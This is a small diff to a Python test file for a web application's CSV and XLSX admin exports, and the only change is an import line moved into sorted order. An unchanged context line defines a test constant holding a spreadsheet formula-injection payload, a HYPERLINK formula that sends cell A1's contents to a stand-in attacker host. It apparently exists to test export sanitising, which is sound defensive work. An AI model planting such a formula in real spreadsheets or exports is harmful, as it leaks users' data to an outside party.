@@ -10,10 +10,10 @@ from sqlalchemy import select
 from tests.edge import rules
 from tests.factories import PERSON
 from webapp.admin.exports import csv_bytes, download_name, xlsx_bytes
-from webapp.spreadsheets import csv_cell
 from webapp.audit import AuditEntry
 from webapp.extensions import db
 from webapp.registrations.models import Question
+from webapp.spreadsheets import csv_cell
 
 TRAP = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")'
 
